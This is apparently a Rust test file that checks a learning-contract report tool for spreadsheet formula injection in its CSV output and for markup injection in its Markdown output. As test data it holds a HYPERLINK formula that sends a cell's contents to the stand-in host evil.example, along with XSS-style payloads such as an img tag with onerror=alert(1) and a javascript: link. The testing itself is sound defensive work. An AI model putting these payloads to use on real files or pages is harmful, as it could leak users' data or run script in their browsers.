//! What the report's files do in the tools people open them with: CSV in a spreadsheet,
//! Markdown in a renderer, and whole texts everywhere but the terminal table.

mod common;

use common::Repo;

const AS_OF: &str = "2026-09-30";

/// An active experience contract whose application actions (overdue), supports (unmet) and
/// follow-up notes (due soon) hold `texts`, and whose team is `team`.
fn contract_with_texts(texts: &[&str], team: &str) -> String {
    let quoted = |t: &str| serde_json::to_string(t).unwrap();
    let mut yaml = format!(
        "\
lc: 1
kind: experience
id: e1
status: active
learner: Jane Doe <jane@example.org>
manager: Sam Lee <sam@example.org>
team: {}
experience: {{title: Claims course, type: course, start: 2026-09-01, end: 2026-09-02}}
learning: [rules]
links: {{job: fewer errors}}
agreed: {{learner: 2026-08-01, manager: 2026-08-01}}
application:
",
        quoted(team)
    );
    for text in texts {
        yaml += &format!(
            "  - {{text: {}, kind: share, due: 2026-09-20}}\n",
            quoted(text)
        );
    }
    yaml += "supports:\n";
    for text in texts {
        yaml += &format!("  - {{text: {}, due: 2026-09-01}}\n", quoted(text));
    }
    yaml += "follow_ups:\n  - {due: 2026-09-15, done: 2026-09-15}\n";
    for text in texts {
        yaml += &format!("  - {{due: 2026-10-05, notes: {}}}\n", quoted(text));
    }
    yaml
}

fn repo_with_texts(texts: &[&str], team: &str) -> Repo {
    let repo = Repo::plain();
    repo.file("contracts/e1.yaml", contract_with_texts(texts, team));
    repo
}

fn report(repo: &Repo, format: &str) -> String {
    let run = repo.lc(&["report", "--as-of", AS_OF, "--format", format]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    run.stdout
}

/// Texts that a spreadsheet would run as formulas, one per first character OWASP names.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+2",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
];

/// Texts that start a formula after a `;` or a tab, where a spreadsheet splits cells on them.
const AFTER_SEPARATORS: [&str; 2] = ["Course;=1+2", "Course\t=1+2"];

fn records(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

#[test]
fn a_separator_inside_a_text_starts_no_cell() {
    let repo = repo_with_texts(&AFTER_SEPARATORS, "Claims");
    let csv = report(&repo, "csv");
    for text in AFTER_SEPARATORS {
        assert!(
            csv.contains(&format!(",\"{text}\",")),
            "quoted: {text:?} in {csv}"
        );
    }
    for line in csv.split_terminator("\r\n") {
        assert!(line.starts_with('"') && line.ends_with('"'), "{line:?}");
    }
}

#[test]
fn no_csv_cell_starts_a_formula() {
    let team = "=1+2";
    let repo = repo_with_texts(&FORMULAS, team);
    let csv = report(&repo, "csv");
    let rows = records(&csv);
    let header = &rows[0];
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (section, text) = (column("section"), column("text"));
    for wanted in ["learning not yet applied", "unmet support", "due soon"] {
        let texts: Vec<&str> = rows
            .iter()
            .filter(|r| r[section] == wanted)
            .map(|r| r[text].as_str())
            .collect();
        let expected: Vec<String> = FORMULAS.iter().map(|t| format!("'{t}")).collect();
        assert_eq!(texts, expected, "{wanted}: each text behind a `'`");
    }
    let listed = repo
        .lc(&["list", "--as-of", AS_OF, "--format", "csv"])
        .stdout;
    let list_rows = records(&listed);
    let team_column = list_rows[0].iter().position(|h| h == "team").unwrap();
    assert_eq!(list_rows[1][team_column], "'=1+2");
    for cell in rows.iter().chain(&list_rows).flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
}

/// How many cells LibreOffice turned into formulas in each CSV file when it opened them and
/// saved them as xlsx (one run of `soffice` for all, since it takes seconds to start).
fn libreoffice_formulas(dir: &std::path::Path, files: &[(&str, &str)]) -> Vec<usize> {
    let profile = format!("file://{}", dir.join("profile").display());
    let mut soffice = std::process::Command::new("soffice");
    soffice
        .arg(format!("-env:UserInstallation={profile}"))
        // Comma, semicolon and tab as separators, `"` as the quote, UTF-8: what a user gets
        // who ticks `;` and tab in the import dialog, as `;`-list-separator locales do.
        .args([
            "--headless",
            "--infilter=CSV:44/59/9,34,76,1",
            "--convert-to",
            "xlsx",
        ])
        .arg("--outdir")
        .arg(dir);
    for (name, csv) in files {
        std::fs::write(dir.join(format!("{name}.csv")), csv).unwrap();
        soffice.arg(dir.join(format!("{name}.csv")));
    }
    let status = soffice.output().expect("soffice runs");
    assert!(status.status.success(), "{status:?}");
    files
        .iter()
        .map(|(name, _)| {
            let sheet = std::process::Command::new("unzip")
                .args(["-p"])
                .arg(dir.join(format!("{name}.xlsx")))
                .arg("xl/worksheets/sheet1.xml")
                .output()
                .expect("unzip runs");
            let xml = String::from_utf8_lossy(&sheet.stdout);
            assert!(xml.contains("<sheetData>"), "a worksheet: {xml}");
            xml.matches("<f>").count() + xml.matches("<f ").count()
        })
        .collect()
}

/// Runs only where LibreOffice (`soffice`) and `unzip` are installed; CI does not install them.
#[test]
fn libreoffice_opens_the_csv_without_a_formula() {
    let on_path = |tool: &str| {
        std::process::Command::new("sh")
            .args(["-c", &format!("command -v {tool}")])
            .output()
            .is_ok_and(|o| o.status.success())
    };
    if !on_path("soffice") || !on_path("unzip") {
        eprintln!("skipped: soffice or unzip is not installed");
        return;
    }
    let texts: Vec<&str> = FORMULAS.iter().chain(&AFTER_SEPARATORS).copied().collect();
    let repo = repo_with_texts(&texts, "=1+2");
    let csv = report(&repo, "csv");
    let dir = tempfile::tempdir().unwrap();
    // The file as it was written before (no `'`, quotes only where RFC 4180 needs them) shows
    // that the check sees formulas at all.
    let unsafe_csv = csv
        .replace("\"'", "\"")
        .replace("\"Course;=1+2\"", "Course;=1+2");
    let listed = repo
        .lc(&["list", "--as-of", AS_OF, "--format", "csv"])
        .stdout;
    let formulas = libreoffice_formulas(
        dir.path(),
        &[("unsafe", &unsafe_csv), ("report", &csv), ("list", &listed)],
    );
    assert!(
        formulas[0] > 7,
        "LibreOffice runs `=` cells, and splits at `;`: {formulas:?}"
    );
    assert_eq!(formulas[1..], [0, 0]);
}

#[test]
fn texts_are_whole_in_every_format_but_the_terminal_table() {
    let long = "Plan the last quarter with the whole team, the mentor and the claims lead";
    let repo = repo_with_texts(&[long], "Claims");
    let json: serde_json::Value = serde_json::from_str(&report(&repo, "json")).unwrap();
    let due_soon = json["due_soon"].as_array().unwrap();
    let notes: Vec<&str> = due_soon
        .iter()
        .filter(|i| i["list"] == "follow_ups")
        .map(|i| i["text"].as_str().unwrap())
        .collect();
    assert_eq!(notes, [long], "follow-up notes in due soon");
    for format in ["csv", "markdown", "html"] {
        let out = report(&repo, format);
        assert_eq!(
            out.matches(long).count(),
            3,
            "{format}: the overdue action, the unmet support and the follow-up due soon"
        );
    }
    let table = report(&repo, "table");
    assert!(!table.contains(long), "the table cuts texts to a line");
    assert!(
        table.contains("follow-up: Plan the last quarter"),
        "{table}"
    );
}

/// Texts full of Markdown and HTML syntax, each of which must render as itself.
const MARKUP: [&str; 26] = [
    "\\|",
    "a | b",
    "a \\\\| b",
    "<img src=x onerror=alert(1)>",
    "[l](javascript:alert(1))",
    "![i](http://127.0.0.1/x.png)",
    "<http://127.0.0.1/>",
    "*a* and **b**",
    "_b_ and __c__",
    "`code` and ``two``",
    "&amp; &lt; &#60; &copy",
    "# not a heading",
    "1. not a list",
    "- not a list",
    "+ not a list",
    "> not a quote",
    "~~struck~~ and ~sub~ and ^sup^",
    "$x^2$ and $$y$$",
    "==mark== {#id .class}",
    "[^1] and [[wiki]]",
    "<!-- comment --> <b>bold</b>",
    "ends with a backslash \\",
    "two\nlines",
    "*** --- ___",
    "https://127.0.0.1/?a=1&b=2_x#top",
    "www.example.org/a_b and jane_doe+x@example.org",
];

/// The text of every table cell of a Markdown document, and the markup anything in it
/// rendered to.
fn markdown_cells(markdown: &str) -> (Vec<String>, Vec<String>) {
    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
    let options = Options::all() - Options::ENABLE_SMART_PUNCTUATION;
    let (mut cells, mut markup) = (Vec::new(), Vec::new());
    let mut cell: Option<String> = None;
    for event in Parser::new_ext(markdown, options) {
        match event {
            Event::Start(Tag::TableCell) => cell = Some(String::new()),
            Event::End(TagEnd::TableCell) => cells.extend(cell.take()),
            Event::Text(text) => {
                if let Some(cell) = &mut cell {
                    cell.push_str(&text);
                }
            }
            // The summary's keys and the transfer matrix's note are the only markup `lc` writes.
            Event::Start(Tag::Strong | Tag::Emphasis) if cell.is_none() => {}
            Event::Start(
                Tag::Heading { .. }
                | Tag::Table(_)
                | Tag::TableHead
                | Tag::TableRow
                | Tag::Paragraph
                | Tag::List(_)
                | Tag::Item,
            ) if cell.is_none() => {}
            Event::End(_) | Event::SoftBreak => {}
            other => markup.push(format!("{other:?}")),
        }
    }
    (cells, markup)
}

#[test]
fn every_text_renders_as_itself_in_markdown() {
    let repo = repo_with_texts(&MARKUP, "Claims");
    let markdown = report(&repo, "markdown");
    let (cells, markup) = markdown_cells(&markdown);
    assert!(
        markup.is_empty(),
        "rendered as markup: {markup:#?}\n{markdown}"
    );
    for text in MARKUP {
        // A line break shows as a space, in Markdown as in HTML.
        let text = &text.replace('\n', " ");
        let count = |wanted: &str| cells.iter().filter(|c| *c == wanted).count();
        assert_eq!(
            (count(text), count(&format!("follow-up: {text}"))),
            (2, 1),
            "{text:?}: the overdue action, the unmet support and the follow-up due soon, in\n{markdown}"
        );
    }
    let rows = markdown
        .lines()
        .filter(|l| l.starts_with("| ") && l.contains("Jane Doe"))
        .count();
    assert_eq!(rows, 3 * MARKUP.len(), "one table row per item: {markdown}");
}
